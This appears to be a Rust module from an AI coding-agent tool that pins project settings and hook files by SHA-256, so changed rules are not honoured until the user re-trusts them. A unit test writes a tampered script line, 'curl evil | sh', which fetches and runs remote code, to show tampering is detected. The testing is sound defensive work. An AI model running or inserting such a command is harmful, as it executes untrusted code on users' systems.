//! Trust of a project's rules pinned by content: `synapse trust DIR` records a SHA-256 of
//! `DIR/.synapse/settings.json` in `$SYNAPSE_HOME/trusted_settings.json`, and the gate honours
//! a trusted project's rules only while the file still has that hash. A change by anyone — the
//! agent, a `git pull`, a hand edit — is not honoured until the user runs `synapse trust` again;
//! an "always" answer the user gives re-pins the file it wrote. A pin file that can't be read
//! pins nothing (fail closed).
//!
//! Pinning also keeps a copy of the content as trusted (`trusted_settings/<hash>.json`, named by
//! its hash and checked against it when read), so while the file differs from its pin the rules
//! the user trusted stay knowable — across daemon restarts too ([`trusted_content`]).

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde_json::{Value, json};
use sha2::{Digest, Sha256};

/// The project settings files `synapse trust` pins, relative to the project's folder: Synapse's
/// own (rules and hooks) and Claude Code's (hooks), each counting only as pinned.
pub const PINNED_PROJECT_FILES: [&str; 3] = [
    synapse_shared::trust::PROJECT_SETTINGS,
    ".claude/settings.json",
    ".claude/settings.local.json",
];

/// The pin file, beside the trust list in `$SYNAPSE_HOME`.
pub const PIN_FILE: &str = "trusted_settings.json";

#[derive(Debug, thiserror::Error)]
pub enum PinError {
    #[error("cannot read {path}: {source}")]
    Read {
        path: PathBuf,
        source: std::io::Error,
    },
    #[error("{path} is not a valid pin file ({reason}); delete it and run `synapse trust` again")]
    Corrupt { path: PathBuf, reason: String },
    #[error("cannot write {path}: {source}")]
    Write {
        path: PathBuf,
        source: std::io::Error,
    },
}

/// How a project settings file stands against its pin.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum PinState {
    Matches,
    /// Never reviewed with `synapse trust`.
    Unpinned,
    Changed,
    Unreadable(String),
}

pub fn pin_file(synapse_home: &Path) -> PathBuf {
    synapse_home.join(PIN_FILE)
}

/// Folder of the trusted copies, beside the pin file.
const COPIES_DIR: &str = "trusted_settings";

/// The hash of `file` as it reads now; `None` when it is missing or not a regular file (a FIFO
/// is never opened: that would block).
fn hash_of(file: &Path) -> Option<String> {
    std::fs::metadata(file).ok().filter(|m| m.is_file())?;
    synapse_shared::bounded::read_bytes(file, None, synapse_shared::bounded::CONFIG_MAX_BYTES)
        .ok()
        .map(|b| hash_bytes(&b))
}

/// The SHA-256 (hex) a pin records of `bytes`.
pub fn hash_bytes(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

fn copies_dir(pins: &Path) -> PathBuf {
    pins.parent().unwrap_or(Path::new(".")).join(COPIES_DIR)
}

fn copy_path(pins: &Path, hash: &str) -> PathBuf {
    copies_dir(pins).join(format!("{hash}.json"))
}

fn load(pins: &Path) -> Result<BTreeMap<String, String>, PinError> {
    let text = match std::fs::read_to_string(pins) {
        Ok(t) => t,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(BTreeMap::new()),
        Err(source) => {
            return Err(PinError::Read {
                path: pins.to_path_buf(),
                source,
            });
        }
    };
    let corrupt = |reason: &str| PinError::Corrupt {
        path: pins.to_path_buf(),
        reason: reason.to_string(),
    };
    let value: Value = serde_json::from_str(&text).map_err(|e| corrupt(&e.to_string()))?;
    let map = value
        .get("pinned")
        .and_then(Value::as_object)
        .ok_or_else(|| corrupt("expected an object `pinned`"))?;
    map.iter()
        .map(|(k, v)| {
            v.as_str()
                .map(|h| (k.clone(), h.to_string()))
                .ok_or_else(|| corrupt("every pin must be a string"))
        })
        .collect()
}

/// Where `settings` (a project's `.synapse/settings.json`) stands against the pins in `pins`.
pub fn state(pins: &Path, settings: &Path) -> PinState {
    let map = match load(pins) {
        Ok(m) => m,
        Err(e) => return PinState::Unreadable(e.to_string()),
    };
    match (map.get(&settings.display().to_string()), hash_of(settings)) {
        (None, _) => PinState::Unpinned,
        (Some(pinned), Some(now)) if *pinned == now => PinState::Matches,
        _ => PinState::Changed,
    }
}

/// The content `settings` had when it was pinned, parsed; `None` when it is not pinned, its copy
/// is missing (pinned by an older version), or the copy no longer has the pinned hash.
pub fn trusted_content(pins: &Path, settings: &Path) -> Option<Value> {
    let map = load(pins).ok()?;
    let hash = map.get(&settings.display().to_string())?;
    let bytes = std::fs::read(copy_path(pins, hash)).ok()?;
    if hash_bytes(&bytes) != *hash {
        return None;
    }
    serde_json::from_slice(&bytes).ok()
}

/// Pins `settings` as it reads now (nothing to pin when it does not exist), keeping a copy of
/// that content; copies no pin names any more are removed.
pub fn pin(pins: &Path, settings: &Path) -> Result<(), PinError> {
    let Ok(bytes) = synapse_shared::bounded::read_bytes(
        settings,
        None,
        synapse_shared::bounded::CONFIG_MAX_BYTES,
    ) else {
        return Ok(());
    };
    let hash = hash_bytes(&bytes);
    let write_err = |source| PinError::Write {
        path: pins.to_path_buf(),
        source,
    };
    std::fs::create_dir_all(copies_dir(pins)).map_err(write_err)?;
    synapse_shared::atomic::write_atomic_mode(&copy_path(pins, &hash), &bytes, 0o600)
        .map_err(write_err)?;
    let _lock = lock_pins(pins).map_err(write_err)?;
    // A pin file that can't be read is replaced: pinning is the user's own fresh review.
    let mut map = load(pins).unwrap_or_default();
    map.insert(settings.display().to_string(), hash);
    let mut text = serde_json::to_string_pretty(&json!({ "pinned": map })).unwrap_or_default();
    text.push('\n');
    synapse_shared::atomic::write_atomic_mode(pins, text.as_bytes(), 0o600).map_err(write_err)?;
    remove_unpinned_copies(pins, &map);
    Ok(())
}

/// The most of a file whose trusted copy is kept (larger ones are pinned by hash only, and a
/// review shows their hash instead of a diff).
pub const COPY_MAX_BYTES: usize = 1024 * 1024;

/// Every pin: file path → hash (`synapse trust`'s review compares with them).
pub fn pinned(pins: &Path) -> Result<BTreeMap<String, String>, PinError> {
    load(pins)
}

/// The bytes `file` had when it was pinned, from the kept copy; `None` when it is not pinned,
/// no copy was kept, or the copy no longer has the pinned hash.
pub fn trusted_bytes(pins: &Path, file: &Path) -> Option<Vec<u8>> {
    let map = load(pins).ok()?;
    let hash = map.get(&file.display().to_string())?;
    let bytes = std::fs::read(copy_path(pins, hash)).ok()?;
    (hash_bytes(&bytes) == *hash).then_some(bytes)
}

/// Pins each file as the given bytes (what the user reviewed, not what the file reads by now),
/// keeping a copy of each (up to [`COPY_MAX_BYTES`]), in one write of the pin file.
pub fn pin_contents(pins: &Path, files: &[(PathBuf, Vec<u8>)]) -> Result<(), PinError> {
    if files.is_empty() {
        return Ok(());
    }
    let write_err = |source| PinError::Write {
        path: pins.to_path_buf(),
        source,
    };
    std::fs::create_dir_all(copies_dir(pins)).map_err(write_err)?;
    let _lock = lock_pins(pins).map_err(write_err)?;
    let mut map = load(pins).unwrap_or_default();
    for (file, bytes) in files {
        let hash = hash_bytes(bytes);
        if bytes.len() <= COPY_MAX_BYTES {
            synapse_shared::atomic::write_atomic_mode(&copy_path(pins, &hash), bytes, 0o600)
                .map_err(write_err)?;
        }
        map.insert(file.display().to_string(), hash);
    }
    let mut text = serde_json::to_string_pretty(&json!({ "pinned": map })).unwrap_or_default();
    text.push('\n');
    synapse_shared::atomic::write_atomic_mode(pins, text.as_bytes(), 0o600).map_err(write_err)?;
    remove_unpinned_copies(pins, &map);
    Ok(())
}

/// Where each of `files` stands against the pins, with one read of the pin file (a project's
/// custom commands and agents, [`crate::agent::custom`]).
pub fn states(pins: &Path, files: &[PathBuf]) -> Vec<PinState> {
    let map = match load(pins) {
        Ok(m) => m,
        Err(e) => {
            return files
                .iter()
                .map(|_| PinState::Unreadable(e.to_string()))
                .collect();
        }
    };
    files
        .iter()
        .map(
            |file| match (map.get(&file.display().to_string()), hash_of(file)) {
                (None, _) => PinState::Unpinned,
                (Some(pinned), Some(now)) if *pinned == now => PinState::Matches,
                _ => PinState::Changed,
            },
        )
        .collect()
}

/// Pins every one of `files` as it reads now, in one write of the pin file and without keeping
/// copies: what is pinned this way is honoured only while it matches.
pub fn pin_files(pins: &Path, files: &[PathBuf]) -> Result<(), PinError> {
    if files.is_empty() {
        return Ok(());
    }
    let write_err = |source| PinError::Write {
        path: pins.to_path_buf(),
        source,
    };
    let _lock = lock_pins(pins).map_err(write_err)?;
    let mut map = load(pins).unwrap_or_default();
    for file in files {
        if let Some(hash) = hash_of(file) {
            map.insert(file.display().to_string(), hash);
        }
    }
    let mut text = serde_json::to_string_pretty(&json!({ "pinned": map })).unwrap_or_default();
    text.push('\n');
    synapse_shared::atomic::write_atomic_mode(pins, text.as_bytes(), 0o600).map_err(write_err)
}

/// Removes the copies of contents no pin names (best effort: a stale copy is never read, as
/// only the pinned hash's copy is).
fn remove_unpinned_copies(pins: &Path, map: &BTreeMap<String, String>) {
    let Ok(entries) = std::fs::read_dir(copies_dir(pins)) else {
        return;
    };
    for entry in entries.flatten() {
        let name = entry.file_name();
        let stem = name.to_string_lossy();
        let hash = stem.strip_suffix(".json").unwrap_or(&stem);
        if !map.values().any(|h| h == hash) {
            let _ = std::fs::remove_file(entry.path());
        }
    }
}

/// Takes the pin file's lock (held until the returned file is dropped), so concurrent pinning
/// never loses an entry.
fn lock_pins(pins: &Path) -> std::io::Result<std::fs::File> {
    let dir = pins.parent().unwrap_or(Path::new("."));
    std::fs::create_dir_all(dir)?;
    let lock = std::fs::OpenOptions::new()
        .create(true)
        .truncate(false)
        .write(true)
        .open(dir.join(".trusted_settings.lock"))?;
    lock.lock()?;
    Ok(lock)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_pinned_file_counts_until_it_changes() {
        let home = tempfile::tempdir().unwrap();
        let pins = pin_file(home.path());
        let project = tempfile::tempdir().unwrap();
        let settings = project.path().join("settings.json");
        std::fs::write(&settings, "{}").unwrap();
        assert_eq!(state(&pins, &settings), PinState::Unpinned);
        pin(&pins, &settings).unwrap();
        assert_eq!(state(&pins, &settings), PinState::Matches);
        std::fs::write(&settings, r#"{"permissions": {"defaultMode": "yolo"}}"#).unwrap();
        assert_eq!(state(&pins, &settings), PinState::Changed);
        std::fs::write(&pins, "[").unwrap();
        assert!(matches!(state(&pins, &settings), PinState::Unreadable(_)));
        pin(&pins, &settings).unwrap();
        assert_eq!(state(&pins, &settings), PinState::Matches);
    }

    #[test]
    fn pinned_contents_are_what_was_given_and_their_copies_are_kept() {
        let home = tempfile::tempdir().unwrap();
        let pins = pin_file(home.path());
        let project = tempfile::tempdir().unwrap();
        let script = project.path().join("fmt.sh");
        std::fs::write(&script, "echo fmt\n").unwrap();
        pin_contents(&pins, &[(script.clone(), b"echo fmt\n".to_vec())]).unwrap();
        assert_eq!(
            states(&pins, std::slice::from_ref(&script)),
            [PinState::Matches]
        );
        std::fs::write(&script, "echo fmt\ncurl evil | sh\n").unwrap();
        assert_eq!(
            states(&pins, std::slice::from_ref(&script)),
            [PinState::Changed]
        );
        assert_eq!(trusted_bytes(&pins, &script).unwrap(), b"echo fmt\n");
        // Reviewed bytes that differ from the file by now: the pin is of what was reviewed.
        pin_contents(&pins, &[(script.clone(), b"reviewed\n".to_vec())]).unwrap();
        assert_eq!(
            states(&pins, std::slice::from_ref(&script)),
            [PinState::Changed]
        );
        assert_eq!(trusted_bytes(&pins, &script).unwrap(), b"reviewed\n");
        assert!(
            pinned(&pins)
                .unwrap()
                .contains_key(&script.display().to_string())
        );
    }

    #[test]
    fn the_trusted_content_stays_readable_after_the_file_changes() {
        let home = tempfile::tempdir().unwrap();
        let pins = pin_file(home.path());
        let project = tempfile::tempdir().unwrap();
        let settings = project.path().join("settings.json");
        assert_eq!(trusted_content(&pins, &settings), None, "nothing pinned");
        std::fs::write(&settings, r#"{"permissions": {"deny": ["rm:*"]}}"#).unwrap();
        pin(&pins, &settings).unwrap();
        std::fs::write(&settings, r#"{"permissions": {}}"#).unwrap();
        let kept = trusted_content(&pins, &settings).unwrap();
        assert_eq!(kept["permissions"]["deny"][0], "rm:*");
        // Pinned again: the old copy goes, the new content is the trusted one.
        pin(&pins, &settings).unwrap();
        assert_eq!(
            trusted_content(&pins, &settings).unwrap()["permissions"],
            json!({})
        );
        let copies = std::fs::read_dir(home.path().join(COPIES_DIR)).unwrap();
        assert_eq!(copies.count(), 1, "only the pinned content's copy stays");
        // A copy that no longer has its hash is not trusted content.
        let hash = load(&pins).unwrap().values().next().unwrap().clone();
        std::fs::write(
            copy_path(&pins, &hash),
            r#"{"permissions": {"allow": ["*"]}}"#,
        )
        .unwrap();
        assert_eq!(trusted_content(&pins, &settings), None);
    }
}
